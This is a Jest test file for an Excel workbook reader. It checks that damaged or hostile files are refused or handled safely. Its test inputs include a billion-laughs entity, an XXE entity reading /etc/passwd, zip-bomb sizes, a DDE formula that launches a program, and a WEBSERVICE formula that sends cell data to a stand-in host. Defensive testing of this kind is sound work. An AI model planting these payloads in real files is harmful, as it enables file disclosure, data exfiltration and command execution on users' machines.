import {
  after,
  RELATIONSHIPS,
  rewrittenPlan,
  SHEET,
  STRINGS,
  withRow,
  WORKBOOK,
  type Rewritten,
} from "./hostileFile";
import { hostilePlan } from "./hostilePlan";
import { survives } from "./survives";

/** A workbook is opened, read, reported on and saved within this, on a slow machine too. */
const MOST_MILLISECONDS = 30_000;

jest.setTimeout(2 * MOST_MILLISECONDS);

const plan = hostilePlan();
const LAUGHS = `<!DOCTYPE lol [<!ENTITY a "lol">${Array.from("bcdefghij")
  .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`)
  .join("")}]>`;
const declared = (doctype: string) => (text: string) =>
  text.replace(/^(<\?xml[^>]*\?>)?/, (first) => `${first}${doctype}`);

/** As the archive's directory tells of a part, whatever it holds. */
function declaring(bytes: Uint8Array, size: number): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 46 < copy.length; at++) {
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true);
  }
  return copy;
}

const zeros = (megabytes: number) => () => new Uint8Array(megabytes * 1_000_000);

async function inTime<Result>(work: () => Promise<Result>): Promise<Result> {
  const start = performance.now();
  const result = await work();
  expect(performance.now() - start).toBeLessThan(MOST_MILLISECONDS);
  return result;
}

describe("a file that is none is told in a sentence", () => {
  test.each<[string, Uint8Array, RegExp]>([
    ["cut off in the middle", plan.slice(0, plan.length / 2), /is damaged .*open it in Excel/],
    ["cut off at its end", plan.slice(0, -10), /is damaged/],
    ["that begins with other bytes", Uint8Array.from([0, ...plan]), /not an Excel workbook/],
    ["with a sheet of 60 MB of nothing", rewrittenPlan({ [SHEET]: zeros(60) }), /is damaged/],
    [
      "whose parts say that they are small",
      declaring(rewrittenPlan({ [SHEET]: zeros(60) }), 900),
      /is damaged/,
    ],
    ["whose parts say that they are huge", declaring(plan, 0xfffffff0), /too large when unpacked/],
    [
      "whose strings laugh a billion times",
      rewrittenPlan({ [STRINGS]: (text) => declared(LAUGHS)(text).replace("Agree", "&j;") }),
      /is damaged/,
    ],
    [
      "that wants a file of this computer",
      rewrittenPlan({
        [STRINGS]: (text) =>
          declared('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')(text).replace(
            "Agree",
            "&e;",
          ),
      }),
      /is damaged/,
    ],
    [
      "of nothing but opening tags",
      rewrittenPlan({ [SHEET]: () => "<a>".repeat(200_000) }),
      /is damaged/,
    ],
    [
      "whose sheet is missing",
      rewrittenPlan({ [RELATIONSHIPS]: (text) => text.replaceAll("sheet1.xml", "nowhere.xml") }),
      /is damaged/,
    ],
    [
      "whose workbook is its own sheet",
      rewrittenPlan({
        [RELATIONSHIPS]: (text) => text.replaceAll("worksheets/sheet1.xml", "workbook.xml"),
      }),
      /./,
    ],
    [
      "with an entity that nothing uses",
      rewrittenPlan({ [SHEET]: declared(LAUGHS) }),
      /declares a document type/,
    ],
    [
      "with a cell beyond the last column",
      rewrittenPlan({ [SHEET]: (text) => text.replace('r="A1"', 'r="ZZZ1"') }),
      /beyond the edge of its sheet/,
    ],
    [
      "with a row beyond the last",
      rewrittenPlan({ [SHEET]: (text) => text.replace('<row r="1"', '<row r="9000000"') }),
      /beyond the edge of its sheet/,
    ],
  ])("%s", async (_says, bytes, says) => {
    expect((await inTime(() => survives(bytes))).told).toMatch(says);
  });
});

const cell = (address: string, inner: string, more = "") => `<c r="${address}"${more}>${inner}</c>`;
const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`;
const inline = (text: string) => `<is><t xml:space="preserve">${text}</t></is>`;
const merges = (...areas: readonly string[]) =>
  after(
    "</sheetData>",
    `<mergeCells>${areas.map((area) => `<mergeCell ref="${area}"/>`).join("")}</mergeCells>`,
  );

/** What Excel itself may have written, or another program, and no officer would look for. */
const ODDITIES: readonly [string, Rewritten][] = [
  [
    "a value in the very last cell",
    { [SHEET]: withRow(row(1_048_576, cell("XFD1048576", "<v>1</v>"))) },
  ],
  [
    "a cell of ten million letters",
    { [SHEET]: withRow(row(9, cell("C9", inline("a".repeat(10_000_000)), ' t="inlineStr"'))) },
  ],
  ["merges that overlap", { [SHEET]: merges("A5:C9", "B6:D12", "A5:C9", "C3:C3") }],
  ["a merge of the whole sheet", { [SHEET]: merges("A5:XFD1048576") }],
  ["a thousand merges of one area", { [SHEET]: merges(...Array<string>(1000).fill("A9:B10")) }],
  [
    "formulas with errors",
    {
      [SHEET]: withRow(
        row(
          9,
          cell("H9", "<f>1/0</f><v>#DIV/0!</v>", ' t="e"') +
            cell("I9", "<f>NOSUCH(A1)</f><v>#NAME?</v>", ' t="e"') +
            cell("J9", "<f>#REF!+1</f><v>#REF!</v>", ' t="e"'),
        ),
      ),
    },
  ],
  [
    "formulas that go round",
    {
      [SHEET]: withRow(
        row(
          9,
          cell("H9", "<f>I9+1</f><v>0</v>") +
            cell("I9", "<f>H9+1</f><v>0</v>") +
            cell("J9", "<f>J9</f><v>0</v>"),
        ),
      ),
    },
  ],
  [
    "a formula nested deeply",
    {
      [SHEET]: withRow(
        row(9, cell("H9", `<f>${"(".repeat(3000)}1${")".repeat(3000)}</f><v>1</v>`)),
      ),
    },
  ],
  [
    "a formula that is no formula",
    { [SHEET]: withRow(row(9, cell("H9", "<f>)(*&amp;^</f><v>1</v>"))) },
  ],
  [
    "a formula of another workbook",
    { [SHEET]: withRow(row(9, cell("H9", "<f>[1]Sheet1!$A$1</f><v>7</v>"))) },
  ],
  [
    "a formula that starts a program",
    { [SHEET]: withRow(row(9, cell("H9", "<f>cmd|' /C calc'!A0</f><v>#REF!</v>", ' t="e"'))) },
  ],
  [
    "a formula that calls a web address",
    {
      [SHEET]: withRow(
        row(9, cell("H9", '<f>WEBSERVICE("https://elsewhere.example/"&amp;A2)</f><v>1</v>')),
      ),
    },
  ],
  [
    "a shared formula without its first",
    { [SHEET]: withRow(row(9, cell("H9", '<f t="shared" si="77"/><v>1</v>'))) },
  ],
  [
    "a string that is not in the list",
    { [SHEET]: withRow(row(9, cell("H9", "<v>99999</v>", ' t="s"'))) },
  ],
  ["a row before the first", { [SHEET]: withRow(row(-3, cell("A-3", "<v>1</v>"))) }],
  [
    "numbers that are none",
    {
      [SHEET]: withRow(
        row(9, cell("H9", "<v>1e999</v>") + cell("I9", "<v>NaN</v>") + cell("J9", "<v>words</v>")),
      ),
    },
  ],
  [
    "a style that is not in the list",
    { [SHEET]: withRow(row(9, cell("H9", "<v>1</v>", ' s="65000"'))) },
  ],
  [
    "a name for a formula of a million letters",
    {
      [WORKBOOK]: after(
        "</sheets>",
        `<definedNames><definedName name="Long">${"A1+".repeat(300_000)}1</definedName></definedNames>`,
      ),
    },
  ],
  [
    "text from right to left, and faces",
    { [STRINGS]: (text) => text.replace("Minutes", "محضر الاجتماع 👩🏽‍🏫 \u202Eסטunim\u202C") },
  ],
  [
    "half of a sign of two halves",
    { [STRINGS]: (text) => text.replace("Minutes", "&#xD83D; _xD83D_ _x0000_") },
  ],
  [
    "a zero width in every word",
    { [STRINGS]: (text) => text.replace("Minutes", "M\u200Bi\u200Bn\u200Bu\u200Bt\u200Be\u200Bs") },
  ],
];

describe("an odd file is reported on, and nothing of it is lost", () => {
  test.each(ODDITIES)("%s", async (_says, parts) => {
    const { told, actions } = await inTime(() => survives(rewrittenPlan(parts)));
    expect(told).toBeNull();
    expect(actions).toHaveLength(2);
  });
});
